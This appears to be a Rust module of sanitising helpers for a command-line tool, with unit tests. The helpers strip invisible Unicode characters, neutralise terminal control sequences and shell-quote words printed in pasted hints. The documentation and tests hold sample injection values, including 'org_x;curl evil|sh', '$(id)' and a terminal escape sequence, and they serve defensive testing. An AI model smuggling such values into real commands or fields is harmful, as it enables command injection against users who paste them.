//! Characters that do not show: text from an IdP or a user must never hide something.

/// Server text made safe for one terminal line: no control or invisible characters, at
/// most 300 characters.
pub fn clean(text: &str) -> String {
    let mut out: String = text
        .chars()
        .filter(|c| !is_invisible(*c))
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(300)
        .collect();
    if text.chars().count() > 300 {
        out.push('…');
    }
    out
}

/// Text for the terminal as it is, except characters that would act instead of show: control
/// characters (escape sequences, carriage returns, bells; newlines too unless `lines`) and
/// invisible ones each become `?`, as `ls` shows such file names. Paths and keys from a cloned
/// repository reach messages through here.
pub fn for_terminal(text: &str, lines: bool) -> std::borrow::Cow<'_, str> {
    let acts = |c: char| (c.is_control() && c != '\t' && !(lines && c == '\n')) || is_invisible(c);
    if text.chars().any(acts) {
        text.chars()
            .map(|c| if acts(c) { '?' } else { c })
            .collect::<String>()
            .into()
    } else {
        text.into()
    }
}

/// `word` as one shell word, for a command a hint prints: as it is when it holds only
/// characters no shell treats specially, otherwise in single quotes. An organization id from a
/// pin or an IdP, or a context name, can then never make a pasted hint run something else
/// (`org_x;curl evil|sh`).
pub fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_-.:@/+=,%".contains(c));
    if plain {
        word.into()
    } else {
        format!("'{}'", word.replace('\'', "'\\''")).into()
    }
}

/// The first `most` of `items`, comma-separated, and how many were left out: a list in an
/// error stays one readable line whatever the store or the IdP holds.
pub fn first_of<S: AsRef<str>>(items: &[S], most: usize) -> String {
    let shown: Vec<&str> = items.iter().take(most).map(AsRef::as_ref).collect();
    let mut text = shown.join(", ");
    if items.len() > most {
        text.push_str(&format!(" (and {} more)", items.len() - most));
    }
    text
}

/// Unicode format characters (Cf: bidi overrides and isolates, zero-width spaces and joiners,
/// the BOM, tag characters, ...) and the line and paragraph separators (Zl, Zp). `prod` and
/// `prod\u{200b}` look alike, and `evil\u{202e}hs.exe` reads backwards.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{600}'..='\u{605}'
            | '\u{61c}'
            | '\u{6dd}'
            | '\u{70f}'
            | '\u{890}'..='\u{891}'
            | '\u{8e2}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{110bd}'
            | '\u{110cd}'
            | '\u{13430}'..='\u{1343f}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0001}'
            | '\u{e0020}'..='\u{e007f}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_text_shows_what_would_act() {
        assert_eq!(for_terminal("a\u{1b}]0;x\u{7}b\r", true), "a?]0;x?b?");
        assert_eq!(for_terminal("one\ntwo\tthree", true), "one\ntwo\tthree");
        assert_eq!(for_terminal("one\ntwo", false), "one?two");
        assert_eq!(for_terminal("évil\u{202e}txt", false), "évil?txt");
    }

    #[test]
    fn hint_words_are_quoted_when_a_shell_would_read_them() {
        assert_eq!(shell_word("org_01H:a@b.c-d"), "org_01H:a@b.c-d");
        assert_eq!(
            shell_word("org_x;touch${IFS}x|sh"),
            "'org_x;touch${IFS}x|sh'"
        );
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("$(id)"), "'$(id)'");
        assert_eq!(shell_word("é"), "'é'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn format_characters_are_invisible_letters_are_not() {
        for c in [
            '\u{202e}',
            '\u{200b}',
            '\u{2066}',
            '\u{feff}',
            '\u{2028}',
            '\u{2029}',
            '\u{e0041}',
        ] {
            assert!(is_invisible(c), "{c:?}");
        }
        for c in ['a', 'é', '漢', '😀', '-', ' '] {
            assert!(!is_invisible(c), "{c:?}");
        }
    }
}
